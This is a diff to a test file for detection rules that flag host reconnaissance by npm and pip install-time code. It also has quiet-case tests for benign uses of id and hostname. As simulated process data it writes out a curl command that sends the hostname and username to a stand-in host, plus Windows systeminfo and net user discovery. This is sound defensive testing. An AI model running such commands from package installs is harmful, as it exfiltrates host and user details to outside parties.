@@ -1,7 +1,8 @@
 /**
- * Payload steps the live malicious corpus showed the pack missing (issue 24 item 4): a second
- * stage started from the temporary folder, and a self-hosted CI runner registered by install-time
- * code — each against the benign installs that run programs from similar places.
+ * Payload steps the atomic tests and the live malicious corpus showed the pack missing (issue 24
+ * items 1 and 4): host reconnaissance, a second stage started from the temporary folder, a
+ * self-hosted CI runner registered by install-time code, a note dropped on the Desktop — each
+ * against the benign installs that do something close.
  */
 import { describe, expect, it } from 'vitest';
 import { alertTitles, Chain, type Proc } from './chain.js';
@@ -89,5 +90,37 @@ describe("install-time code writing into the user's personal folders", () => {
     const husky = c.spawn(sh, '/usr/local/bin/node', 'node /Users/ana/Documents/site/node_modules/.bin/husky');
     c.write(husky, '/Users/ana/Documents/site/.husky/_/pre-commit');
     expect(await alertTitles(c)).toEqual([]);
+  });
+});
+
+describe('host reconnaissance from install-time code', () => {
+  const RECON = 'Host Reconnaissance From a Package Install Script';
+
+  it('alerts on discovery programs and on shell scripts that run them, wherever the script puts them', async () => {
+    const { c, node } = npmScript('node index.js');
+    const sh = c.spawn(node, '/bin/sh', '/bin/sh -c curl -s "https://cb.example/?h=$(hostname)&u=$(whoami)"');
+    c.spawn(sh, '/usr/bin/hostname', 'hostname');
+    c.spawn(sh, '/usr/bin/whoami', 'whoami');
+    c.spawn(node, '/bin/sh', '/bin/sh -c id');
+    const win = new Chain('WS-2', 'windows');
+    const ps = win.root('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe', 'C:\\src\\app');
+    const pip = win.spawn(ps, 'C:\\Python312\\python.exe', '"C:\\Python312\\python.exe" "C:\\Python312\\Scripts\\pip.exe" install x');
+    const hook = win.spawn(pip, 'C:\\Python312\\python.exe', '"C:\\Python312\\python.exe" "C:\\Python312\\Lib\\site-packages\\pip\\_vendor\\pyproject_hooks\\_in_process\\_in_process.py" get_requires_for_build_wheel C:\\t');
+    win.spawn(hook, 'C:\\Windows\\System32\\cmd.exe', 'C:\\WINDOWS\\system32\\cmd.exe /c id');
+    win.spawn(hook, 'C:\\Windows\\System32\\cmd.exe', 'C:\\WINDOWS\\system32\\cmd.exe /c "systeminfo & net user"');
+    expect((await alertTitles(c)).filter((t) => t === RECON)).toHaveLength(4);
+    expect((await alertTitles(win)).filter((t) => t === RECON)).toHaveLength(2);
+  });
+
+  it("is quiet for permission checks, configure's hostname below make, and outside installs", async () => {
+    const { c, node, sh } = npmScript('node index.js');
+    const check = c.spawn(node, '/bin/sh', '/bin/sh -c if [ "$(id -u)" = 0 ]; then echo root; fi');
+    c.spawn(check, '/usr/bin/id', 'id -u');
+    const gyp = c.spawn(sh, '/usr/bin/node', 'node /usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild');
+    const make = c.spawn(gyp, '/usr/bin/make', 'make -C build');
+    const configure = c.spawn(make, '/bin/sh', 'sh ./configure --prefix=/usr');
+    c.spawn(configure, '/usr/bin/hostname', 'hostname');
+    c.spawn(c.root('/usr/bin/bash', 'bash', '/home/dev'), '/usr/bin/whoami', 'whoami');
+    expect((await alertTitles(c)).filter((t) => t === RECON)).toEqual([]);
   });
 });
